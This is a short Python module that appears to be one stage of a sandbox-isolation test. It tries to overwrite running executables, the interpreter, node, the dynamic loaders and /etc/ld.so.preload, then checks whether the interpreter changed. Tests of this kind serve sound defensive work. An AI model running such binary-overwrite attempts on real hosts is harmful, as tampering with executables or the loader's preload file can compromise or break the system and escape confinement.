"""Overwrites programs while they run, which the next server would start: its own, the loader's, the first process's."""

import os
import sys

from attack_stage import attempts, must, read

AT = "call"


def overwrite(path):
    with open(path, "r+b", buffering=0) as file:
        return file.write(b"\x7f")


def attack():
    before = read(sys.executable, 4096)
    programs = ("/proc/self/exe", "/proc/1/exe", f"/proc/{os.getppid()}/exe", sys.executable, "/usr/bin/node")
    return {
        **attempts(overwrite, *programs, "/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1"),
        **attempts(overwrite, "/proc/self/root/usr/bin/node", "/proc/1/map_files", "/etc/ld.so.preload"),
        "interpreter": must(read(sys.executable, 4096) != before, "changed"),
    }
